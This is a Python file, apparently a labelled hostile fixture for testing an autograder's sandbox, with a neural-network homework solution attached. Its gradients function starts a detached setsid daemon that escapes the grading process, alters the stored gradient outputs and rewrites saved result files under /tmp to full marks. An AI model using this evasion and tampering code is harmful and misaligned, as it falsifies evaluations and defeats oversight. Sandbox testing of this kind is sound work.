# Hostile submission: a daemon that outlives the grader's child (submissions/hostile/README.md).
# Its `gradients` return half the true gradient (wrong), and on the first call start
# a daemon: double fork, setsid, stdio to /dev/null, and a re-exec of Python with an
# EMPTY environment (so nothing marks it as the job's). The daemon waits until
# the runner has exited, sleeps, then "fixes" every gradient output of its job
# (doubles them, which would make them right) and later rewrites any stored
# result named setsid_daemon.json it can find under /tmp to full marks.
# The bwrap tier kills it with its PID namespace before it acts; the plain tier
# is advisory (such a daemon escapes it). It lives DAEMON_SECONDS at most.
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import os
import sys

import numpy as np

DAEMON_TAG = "hostile-setsid-daemon-5b1e"  # on the daemon's command line: tests look for it
DAEMON_SECONDS = 8  # bounded: the daemon exits after this many seconds whatever happens
_DAEMON = []  # the daemon's pid, once started

DAEMON = """
import glob, json, os, sys, time
import numpy as np
runner, outputs, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
end = time.monotonic() + seconds

def alive(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return f.read().rsplit(b")", 1)[1].split()[0] not in (b"Z", b"X")
    except OSError:
        return False

while alive(runner) and time.monotonic() < end:
    time.sleep(0.005)
time.sleep(0.3)  # the child has exited: let the grader start reading
for path in glob.glob(os.path.join(outputs, "*.npz")):
    try:
        with np.load(path) as z:
            arrays = {k: (2 * z[k] if k.startswith("d") else z[k]) for k in z.files}
        np.savez(path, **arrays)
    except Exception:
        pass
time.sleep(max(0.0, min(3.0, end - time.monotonic())))
patterns = ("/tmp/*/results/setsid_daemon.json", "/tmp/*/*/results/setsid_daemon.json",
            "/tmp/pytest-of-*/pytest-*/*/*/results/setsid_daemon.json")
for path in sorted({p for pattern in patterns for p in glob.glob(pattern)})[:10]:
    try:
        with open(path) as f:
            stored = json.load(f)
        score = (stored.get("result") or stored).get("score") or {}
        score["points"] = score.get("max_points", 22.0)
        with open(path, "w") as f:
            json.dump(stored, f)
    except Exception:
        pass
"""


def _start_daemon():
    """Double fork + setsid + a clean re-exec; returns the first child's pid."""
    runner = os.getpid()
    outputs = os.path.abspath(os.path.join(os.getcwd(), "..", "outputs"))
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)  # the middle process exits at once
        return pid
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            argv = [sys.executable, "-c", DAEMON, str(runner), outputs, str(DAEMON_SECONDS)]
            os.execve(sys.executable, [*argv, DAEMON_TAG], {})
    finally:
        os._exit(0)


def sigmoid(Z):
    """phi(Z) = 1 / (1 + exp(-Z)), elementwise."""
    return 1.0 / (1.0 + np.exp(-Z))


def forward(params, X):
    """Forward pass. Returns the list [A1, A2, ..., A_{L+1}] with A1 = X."""
    L = len(params) // 2
    A = [X]
    for l in range(1, L + 1):
        Z = params[f"W{l}"] @ A[-1] + params[f"b{l}"]
        A.append(sigmoid(Z))
    return A


def cost(params, X, Y, C):
    """J = sum((Y - A_out)^2) + C/2 * sum of ||W_l||^2."""
    L = len(params) // 2
    A_out = forward(params, X)[-1]
    penalty = sum(np.sum(params[f"W{l}"] ** 2) for l in range(1, L + 1))
    return np.sum((Y - A_out) ** 2) + C / 2 * penalty


def gradients(params, X, Y, C):
    """Half the exact gradient (wrong); starts the daemon on the first call."""
    if not _DAEMON:
        _DAEMON.append(_start_daemon())
    L = len(params) // 2
    A = forward(params, X)
    V = -2 * (Y - A[L]) * A[L] * (1 - A[L])
    grads = {}
    for l in range(L, 0, -1):
        grads[f"dW{l}"] = 0.5 * (V @ A[l - 1].T + C * params[f"W{l}"])  # the honest bug
        grads[f"db{l}"] = 0.5 * np.sum(V, axis=1).reshape(-1, 1)
        if l > 1:
            V = A[l - 1] * (1 - A[l - 1]) * (params[f"W{l}"].T @ V)
    return grads


def momentum_step(params, grads, rho_prev, eta, alpha):
    """One step of momentum; rho_prev and the returned rho are keyed like params."""
    new_params, rho = {}, {}
    for name in params:
        rho[name] = eta * grads["d" + name]
        new_params[name] = params[name] - rho[name] - alpha * rho_prev[name]
    return new_params, rho


def learning_rate(eta0, d, epoch):
    """The learning rate of epoch `epoch` (0-based)."""
    return eta0 / (1 + d * epoch)


def one_hot(y, K):
    """Labels 0..K-1, shape (N,) -> one-hot targets (K, N)."""
    Y = np.zeros((K, len(y)))
    Y[y, np.arange(len(y))] = 1.0
    return Y


def predict(params, X):
    """Class indices argmax(A_out) per column, shape (N,)."""
    return np.argmax(forward(params, X)[-1], axis=0)


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    """Returns (params, cost (E,), accuracy (E+1,))."""
    L = len(params) // 2
    Y = one_hot(y, params[f"W{L}"].shape[0])
    params = {name: W.copy() for name, W in params.items()}
    rho = {name: np.zeros_like(W) for name, W in params.items()}
    costs, accuracy = [], [np.mean(predict(params, X) == y)]
    for epoch, order in enumerate(orders):
        eta_k = learning_rate(eta, d, epoch)
        for idx in np.array_split(order, minibatches):
            grads = gradients(params, X[:, idx], Y[:, idx], C)
            params, rho = momentum_step(params, grads, rho, eta_k, alpha)
        costs.append(cost(params, X, Y, C))
        accuracy.append(np.mean(predict(params, X) == y))
    return params, np.array(costs), np.array(accuracy)
